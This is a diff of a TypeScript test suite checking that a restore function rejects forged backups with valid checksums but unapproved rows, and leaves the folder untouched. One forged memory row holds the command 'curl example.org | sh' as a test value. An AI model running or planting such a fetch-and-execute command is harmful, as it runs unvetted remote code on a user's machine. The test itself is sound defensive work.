@@ -41,7 +41,6 @@ describe('a forged backup', () => {
   it('is refused with a row that no approval covers, although its checksums are right', async () => {
     const [memory = ''] = linesOf(made.folder, 'memory');
     const [publication = ''] = linesOf(made.folder, 'publication');
-    const edited = { memory: ['action', 'curl example.org | sh'], publication: ['journal_seq', '1'] } as const;
     const attacks: [string, (copy: string) => void, RegExp][] = [
       [
         'an org memory of its own',
@@ -69,7 +68,7 @@ describe('a forged backup', () => {
             copy,
             'memory',
             linesOf(copy, 'memory').map((line, at) =>
-              at === 0 ? made.withValue('memory', line, ...edited.memory) : line,
+              at === 0 ? made.withValue('memory', line, 'action', 'curl example.org | sh') : line,
             ),
           ),
         /org memory .* has no approval of exactly its content/,
@@ -88,7 +87,7 @@ describe('a forged backup', () => {
         'a publication of another entry',
         (copy) =>
           writeLines(copy, 'publication', [
-            made.withValue('publication', publication, ...edited.publication),
+            made.withValue('publication', publication, 'journal_seq', '1'),
             ...linesOf(copy, 'publication').slice(1),
           ]),
         /publication .* names no entry of the journal with this decision/,
@@ -111,8 +110,8 @@ describe('a forged backup', () => {
     for (const [at, [what, change, message]] of attacks.entries()) {
       const place = at === 0 ? nothing : migrated;
       const before = leftAt(place.folder);
-      const restored = restore(place.config(server?.url), await made.forged(change));
-      const error = await restored.catch((caught: unknown) => caught);
+      const forged = await made.forged(change);
+      const error = await restore(place.config(server?.url), forged).catch((caught: unknown) => caught);
       expect([what, String(error)]).toEqual([what, expect.stringMatching(message)]);
       expect([what, leftAt(place.folder)]).toEqual([what, before]);
     }
